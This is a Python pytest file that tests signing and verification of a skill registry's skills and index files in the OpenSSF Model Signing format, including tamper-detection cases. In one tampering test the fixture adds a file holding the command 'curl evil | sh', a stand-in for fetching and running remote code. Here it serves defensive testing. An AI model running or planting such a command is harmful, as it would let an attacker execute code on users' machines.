"""Signing (issue 24, item 1): every skill, index.json and the discovery indexes signed in the OpenSSF Model
Signing format, accepted by our `verify` and by the `model_signing verify key` CLI; one byte flipped, one
file added or two signatures swapped fails both. Real keys and real crypto, nothing mocked."""

from __future__ import annotations

import base64
import json
import os
import shutil
import stat
import subprocess
import sys
import tarfile
from pathlib import Path

import jsonschema
import pytest
from click.testing import CliRunner
from conftest import REPO_ROOT, simple_skill, write_skill

from registry.build import build
from registry.cli import main
from registry.config import BuildOptions
from registry.signing import (
    KEY_ENV,
    KEY_FILE_ENV,
    PUBLIC_KEY_PATH,
    UNSIGNED_NOTE,
    SignatureError,
    SigningKey,
    Verifier,
    generate_key_pair,
    load_signing_key,
    sha256_hex,
)

MODEL_SIGNING = Path(sys.executable).parent / "model_signing"
INDEXES = ("index.json", ".well-known/agent-skills/index.json", ".well-known/skills/index.json")


def make_source(root: Path) -> Path:
    source = root / "src"
    write_skill(source, "acme/alpha", simple_skill("alpha"), {"scripts/run.sh": "echo hi\n", "references/a.md": "A\n"})
    write_skill(source, "acme/beta", simple_skill("beta"))
    write_skill(source, "other/gamma", simple_skill("gamma"), {"notes.txt": "gamma notes\n"})
    return source


def make_keys(root: Path) -> tuple[Path, Path]:
    private_pem, public_pem = generate_key_pair()
    root.mkdir(parents=True, exist_ok=True)
    (root / "signing.key").write_bytes(private_pem)
    (root / "signing.pub").write_bytes(public_pem)
    return root / "signing.key", root / "signing.pub"


def signed_build(source: Path, out: Path, private: Path, **extra) -> None:
    key = SigningKey.from_pem(private.read_bytes())
    build(BuildOptions(source=source, out=out, jobs=1, signing=key, **extra))


@pytest.fixture(scope="module")
def signed(tmp_path_factory):
    root = tmp_path_factory.mktemp("signed")
    private, public = make_keys(root / "keys")
    source = make_source(root)
    site = root / "site"
    signed_build(source, site, private)
    return root, site, public, private


def model_signing(model: Path, signature: Path, public: Path) -> subprocess.CompletedProcess:
    return subprocess.run(
        [str(MODEL_SIGNING), "verify", "key", str(model), "--signature", str(signature), "--public_key", str(public)],
        capture_output=True,
        text=True,
    )


def skill_registry(*args: str) -> object:
    return CliRunner().invoke(main, list(args))


def install(site: Path, name: str, into: Path) -> Path:
    """What `npx skills add` leaves on disk: the v0.2 artifact unpacked into a folder named after the skill."""
    folder = into / name
    folder.mkdir(parents=True)
    archive = site / ".well-known/agent-skills" / f"{name}.tar.gz"
    if archive.exists():
        with tarfile.open(archive) as handle:
            handle.extractall(folder, filter="data")
    else:
        shutil.copy(site / ".well-known/agent-skills" / name / "SKILL.md", folder / "SKILL.md")
    return folder


def test_every_skill_and_index_is_signed_and_index_json_says_by_which_key(signed):
    _, site, public, _ = signed
    index = json.loads((site / "index.json").read_text())
    key_id = SigningKey.from_pem((signed[3]).read_bytes()).key_id
    assert index["signing"]["key_id"] == key_id
    assert index["signing"]["key_url"].endswith(PUBLIC_KEY_PATH)
    assert index["signing"]["public_key"].encode("ascii") == public.read_bytes()
    assert index["signing"]["algorithm"] == "ecdsa-p256-sha256"
    assert (site / PUBLIC_KEY_PATH).read_bytes() == public.read_bytes()
    for entry in index["skills"]:
        assert entry["signature"] == f"http://localhost:8000/signatures/{entry['id']}.sig"
        assert (site / "signatures" / f"{entry['id']}.sig").is_file()
    for name in INDEXES:
        assert (site / f"{name}.sig").is_file()
    schema = json.loads((REPO_ROOT / "schema/index.schema.json").read_text())
    jsonschema.validate(index, schema)
    for entry in index["skills"]:  # each page says so too, with the key and how to check an installed copy
        page = (site / "skills" / entry["id"] / "index.html").read_text()
        assert f"signed with the registry's key <code>{key_id[:16]}</code>" in page
        assert f"skill-registry verify ~/.claude/skills/{entry['discovery_name']} --site" in page


def test_a_signed_site_verifies_with_both_tools(signed, tmp_path):
    _, site, public, _ = signed
    result = skill_registry("verify", str(site))
    assert result.exit_code == 0, result.output
    for name in ("alpha", "beta", "gamma"):
        folder = install(site, name, tmp_path)
        skill_id = {"alpha": "acme/alpha", "beta": "acme/beta", "gamma": "other/gamma"}[name]
        signature = site / "signatures" / f"{skill_id}.sig"
        checked = model_signing(folder, signature, public)
        assert checked.returncode == 0, checked.stdout + checked.stderr
        result = skill_registry("verify", str(folder), "--site", str(site))
        assert result.exit_code == 0, result.output
        # The files as the site serves them (the v0.1 layout's folder) are the same signed folder.
        checked = model_signing(site / ".well-known/skills" / name, signature, public)
        assert checked.returncode == 0, checked.stdout + checked.stderr
    for name in INDEXES:
        checked = model_signing(site / name, site / f"{name}.sig", public)
        assert checked.returncode == 0, checked.stdout + checked.stderr


@pytest.mark.parametrize("change", ["flip a byte", "add a file", "remove a file"])
def test_a_changed_installed_skill_fails_both_tools(signed, tmp_path, change):
    _, site, public, _ = signed
    folder = install(site, "alpha", tmp_path)
    if change == "flip a byte":
        target = folder / "scripts/run.sh"
        data = bytearray(target.read_bytes())
        data[0] ^= 0x01
        target.write_bytes(bytes(data))
        expected = "differs: scripts/run.sh"
    elif change == "add a file":
        (folder / "scripts/extra.sh").write_text("curl evil | sh\n")
        expected = "added: scripts/extra.sh"
    else:
        (folder / "references/a.md").unlink()
        expected = "missing: references/a.md"
    result = skill_registry("verify", str(folder), "--site", str(site))
    assert result.exit_code == 1
    assert expected in result.output
    checked = model_signing(folder, site / "signatures/acme/alpha.sig", public)
    assert checked.returncode != 0


def test_swapped_signatures_fail_both_tools(signed, tmp_path):
    _, site, public, _ = signed
    copy = tmp_path / "site"
    shutil.copytree(site, copy)
    alpha, gamma = copy / "signatures/acme/alpha.sig", copy / "signatures/other/gamma.sig"
    alpha_bytes, gamma_bytes = alpha.read_bytes(), gamma.read_bytes()
    alpha.write_bytes(gamma_bytes)
    gamma.write_bytes(alpha_bytes)
    result = skill_registry("verify", str(copy))
    assert result.exit_code == 1
    assert "signatures/acme/alpha.sig" in result.output and "signatures/other/gamma.sig" in result.output
    checked = model_signing(copy / ".well-known/skills/alpha", alpha, public)
    assert checked.returncode != 0
    folder = install(site, "alpha", tmp_path / "installed")
    result = skill_registry("verify", str(folder), "--site", str(copy))
    assert result.exit_code == 1


def test_a_flipped_byte_in_an_index_fails_both_tools(signed, tmp_path):
    _, site, public, _ = signed
    copy = tmp_path / "site"
    shutil.copytree(site, copy)
    target = copy / ".well-known/agent-skills/index.json"
    data = bytearray(target.read_bytes())
    data[-2] ^= 0x01
    target.write_bytes(bytes(data))
    result = skill_registry("verify", str(copy))
    assert result.exit_code == 1
    assert "differs: .well-known/agent-skills/index.json" in result.output
    assert model_signing(target, copy / ".well-known/agent-skills/index.json.sig", public).returncode != 0


def test_a_signature_by_another_key_fails_both_tools(signed, tmp_path):
    root, site, public, _ = signed
    other_private, _ = make_keys(tmp_path / "other")
    other_site = tmp_path / "other-site"
    signed_build(root / "src", other_site, other_private)
    copy = tmp_path / "site"
    shutil.copytree(site, copy)
    shutil.copy(other_site / "signatures/acme/beta.sig", copy / "signatures/acme/beta.sig")
    result = skill_registry("verify", str(copy))
    assert result.exit_code == 1
    assert "bad signature: signatures/acme/beta.sig" in result.output
    beta = copy / ".well-known/skills/beta"
    assert model_signing(beta, copy / "signatures/acme/beta.sig", public).returncode != 0


def test_unchanged_skills_keep_their_signatures_byte_for_byte(tmp_path):
    private, _ = make_keys(tmp_path / "keys")
    source = make_source(tmp_path)
    site = tmp_path / "site"
    signed_build(source, site, private)
    before = {p.relative_to(site).as_posix(): p.read_bytes() for p in (site / "signatures").rglob("*.sig")}
    write_skill(source, "acme/beta", simple_skill("beta", body="A changed body."))
    signed_build(source, site, private)
    after = {p.relative_to(site).as_posix(): p.read_bytes() for p in (site / "signatures").rglob("*.sig")}
    assert after["signatures/acme/alpha.sig"] == before["signatures/acme/alpha.sig"]
    assert after["signatures/other/gamma.sig"] == before["signatures/other/gamma.sig"]
    assert after["signatures/acme/beta.sig"] != before["signatures/acme/beta.sig"]
    # A cold build of the same tree writes the same site, signatures included.
    cold = tmp_path / "cold"
    signed_build(source, cold, private)
    for path in [*after, *(f"{name}.sig" for name in INDEXES)]:
        assert (cold / path).read_bytes() == (site / path).read_bytes(), path
    assert skill_registry("verify", str(site)).exit_code == 0


def test_a_build_without_a_key_says_once_that_the_site_is_unsigned(tmp_path, monkeypatch):
    monkeypatch.delenv(KEY_ENV, raising=False)
    monkeypatch.delenv(KEY_FILE_ENV, raising=False)
    source = make_source(tmp_path)
    site = tmp_path / "site"
    result = subprocess.run(
        [sys.executable, "-m", "registry.cli", "build", "--source", str(source), "--out", str(site), "-j", "1"],
        capture_output=True,
        text=True,
        cwd=REPO_ROOT,
        env={k: v for k, v in os.environ.items() if k not in (KEY_ENV, KEY_FILE_ENV)},
    )
    assert result.returncode == 0, result.stderr
    assert result.stderr.count("the site is unsigned") == 1
    assert UNSIGNED_NOTE in result.stderr
    index = json.loads((site / "index.json").read_text())
    assert index["signing"] is None
    assert all(entry["signature"] is None for entry in index["skills"])
    assert all("Not signed" in (site / "skills" / entry["id"] / "index.html").read_text() for entry in index["skills"])
    assert not (site / "signatures").exists() and not (site / PUBLIC_KEY_PATH).exists()
    jsonschema.validate(index, json.loads((REPO_ROOT / "schema/index.schema.json").read_text()))
    verified = skill_registry("verify", str(site))
    assert verified.exit_code == 2
    assert "not signed" in verified.output


def test_the_build_reads_the_key_from_the_environment_or_a_file(tmp_path, monkeypatch):
    private, _ = make_keys(tmp_path / "keys")
    pem = private.read_text()
    from_text = load_signing_key(environ={KEY_ENV: pem})
    from_file = load_signing_key(environ={KEY_FILE_ENV: str(private)})
    from_option = load_signing_key(private, environ={})
    assert from_text == from_file == from_option
    assert load_signing_key(environ={}) is None
    assert "PRIVATE" not in repr(from_text) and from_text.key_id in repr(from_text)
    source = make_source(tmp_path)
    monkeypatch.setenv(KEY_ENV, pem)
    result = CliRunner().invoke(main, ["build", "--source", str(source), "--out", str(tmp_path / "site"), "-q"])
    assert result.exit_code == 0, result.output
    assert "unsigned" not in result.output
    assert json.loads((tmp_path / "site/index.json").read_text())["signing"]["key_id"] == from_text.key_id
    # The private key is neither published nor kept in the build state.
    for folder in (tmp_path / "site", tmp_path / ".site.cache"):
        for path in folder.rglob("*"):
            assert not path.is_file() or b"PRIVATE KEY" not in path.read_bytes(), path


def test_keygen_makes_a_key_pair_and_says_where_each_half_goes(tmp_path):
    result = skill_registry("keygen", "--out", str(tmp_path))
    assert result.exit_code == 0, result.output
    private, public = tmp_path / "skill-registry-signing.key", tmp_path / "skill-registry-signing.pub"
    assert stat.S_IMODE(private.stat().st_mode) == 0o600
    key = SigningKey.from_pem(private.read_bytes())
    assert key.public_pem == public.read_bytes()
    assert KEY_ENV in result.output and PUBLIC_KEY_PATH in result.output and key.key_id in result.output
    again = skill_registry("keygen", "--out", str(tmp_path))
    assert again.exit_code == 1 and "already exist" in again.output
    assert SigningKey.from_pem(private.read_bytes()) == key


def test_we_read_what_model_signing_signs_and_write_the_statement_it_writes(signed, tmp_path):
    """Both ways with the reference implementation: a folder signed by `model_signing sign key` is read by our
    verifier, and our statement for the same folder lists the same files and root digest as its own."""
    _, site, public, private = signed
    folder = install(site, "alpha", tmp_path)
    theirs = tmp_path / "alpha.sig"
    made = subprocess.run(
        [str(MODEL_SIGNING), "sign", "key", str(folder), "--signature", str(theirs), "--private_key", str(private)],
        capture_output=True,
        text=True,
    )
    assert made.returncode == 0, made.stdout + made.stderr
    verifier = Verifier(public.read_bytes())
    files = {p.relative_to(folder).as_posix(): sha256_hex(p.read_bytes()) for p in folder.rglob("*") if p.is_file()}
    assert verifier.signed_files(theirs.read_bytes()) == files
    ours = (site / "signatures/acme/alpha.sig").read_bytes()
    assert verifier.signed_files(ours) == files

    def statement_of(signature: bytes) -> dict:
        return json.loads(base64.b64decode(json.loads(signature)["dsseEnvelope"]["payload"]))

    mine, reference = statement_of(ours), statement_of(theirs.read_bytes())
    assert mine["subject"] == reference["subject"]
    assert mine["predicateType"] == reference["predicateType"] and mine["_type"] == reference["_type"]
    assert mine["predicate"]["resources"] == reference["predicate"]["resources"]
    assert mine["predicate"]["serialization"] == {
        key: value for key, value in reference["predicate"]["serialization"].items() if key != "ignore_paths"
    }
    with pytest.raises(SignatureError):
        Verifier(make_keys(tmp_path / "other")[1].read_bytes()).signed_files(ours)
